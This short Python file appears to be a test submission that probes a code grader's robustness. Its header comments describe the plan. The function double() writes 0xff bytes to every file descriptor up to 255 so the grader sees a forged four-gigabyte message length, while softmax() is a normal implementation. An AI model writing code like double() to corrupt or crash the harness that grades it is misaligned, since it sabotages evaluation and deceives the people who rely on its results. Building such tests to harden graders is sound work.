# aim: announce four gigabytes on the wire, and have the grader make room for them
# expect: double crashed, softmax passed
# says: a message of 4294967295 bytes
import contextlib
import os


def double(x):
    for descriptor in range(256):
        with contextlib.suppress(OSError):
            os.write(descriptor, b"\xff" * 8)
    return x


def softmax(z):
    powers = (z - z.max()).exp()
    return powers / powers.sum()
